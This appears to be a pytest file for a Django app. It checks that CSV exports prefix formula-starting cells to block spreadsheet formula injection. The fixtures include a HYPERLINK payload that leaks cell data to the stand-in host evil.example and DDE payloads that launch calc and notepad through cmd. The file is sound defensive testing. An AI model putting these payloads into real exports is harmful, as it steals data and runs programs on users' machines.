"""Every CSV the app writes neutralises cells a spreadsheet would run as a formula.

The attack: a name someone typed (a house, a topic, an account email) starts with `=`, `+`,
`-`, `@`, a tab or a carriage return; a manager opens the export in Excel and the cell runs
(`=HYPERLINK(...)` sends the sheet's data elsewhere, `=cmd|...` starts programs). Each such cell
must come out prefixed with `'`.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from activity_log.models import Topic
from activity_log.reports.rollup import rollup_rebuild
from mentoring_site import csv_safe
from mentoring_site.models import AuditEvent
from tests import factories as f

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [c for row in csv.reader(io.StringIO(body.decode())) for c in row]


def _contact_with_topic(house, topic_name: str) -> None:
    topic = Topic.objects.create(slug="formula", name=topic_name, position=99)
    contact = f.ContactLogFactory(
        pairing=f.PairingFactory(resident__house=house),
        happened_at=timezone.now() - dt.timedelta(days=2),
    )
    contact.topics.add(topic)
    rollup_rebuild()  # factories skip the services that keep the reports' roll-up in step


def _assert_neutralised(cells: list[str], value: str) -> None:
    assert f"'{value}" in cells, cells
    assert value not in cells  # never written raw
    assert not any(c.startswith(csv_safe.FORMULA_STARTS) for c in cells), cells


def test_the_program_report_csv_neutralises_a_formula_house_and_topic(as_user, manager):
    house = f.HouseFactory(name=HYPERLINK, managers=[manager])
    _contact_with_topic(house, SUM)
    response = as_user(manager).get(reverse("activity_log:reports_csv"), {"house": house.pk})
    assert response.status_code == 200
    cells = _cells(response)
    _assert_neutralised(cells, HYPERLINK)
    _assert_neutralised(cells, SUM)


def test_the_funder_csv_neutralises_a_formula_topic(as_user, manager, house):
    _contact_with_topic(house, PLUS)
    response = as_user(manager).get(reverse("activity_log:reports_funder_csv"))
    assert response.status_code == 200
    _assert_neutralised(_cells(response), PLUS)


def test_the_audit_export_neutralises_a_formula_email(as_user, program_admin):
    staff = f.ManagerUserFactory(email="=2+5@example.org")
    AuditEvent.objects.create(
        user=staff, action="view", object_type="residents.resident", object_id="1", resident_id=1
    )
    response = as_user(program_admin).get(reverse("activity_log:audit_export"))
    assert response.status_code == 200
    _assert_neutralised(_cells(response), "=2+5@example.org")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Maple House", "Maple House"),
        ("12", "12"),
        ("45%", "45%"),
        ("—", "—"),
        ("", ""),
        (3, 3),
        (-3, -3),  # a Python number stays a number
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_the_helper_prefixes_only_text_that_would_run(value, written):
    assert csv_safe.cell(value) == written


def test_the_writer_streams_like_csv_writer():
    class Echo:
        def write(self, value):
            return value

    assert csv_safe.writer(Echo()).writerow(["=x", 1, "ok"]) == "'=x,1,ok\r\n"
